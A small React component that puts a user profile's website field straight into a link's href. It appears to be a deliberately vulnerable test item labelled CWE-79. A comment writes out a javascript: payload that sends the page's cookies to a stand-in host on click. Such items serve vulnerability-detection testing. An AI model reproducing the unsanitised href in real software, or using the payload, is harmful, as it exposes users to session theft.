import React from "react";

export interface Profile { name: string; website: string; bio: string; }

export function ProfileCard({ profile }: { profile: Profile }) {
  // a website of "javascript:fetch('//evil.example/'+document.cookie)" runs on click
  // expect: CWE-79
  const link = <a href={profile.website} rel="nofollow">Website</a>;
  return (
    <div className="profile-card">
      <h3>{profile.name}</h3>
      {link}
      <p>{profile.bio}</p>
    </div>
  );
}
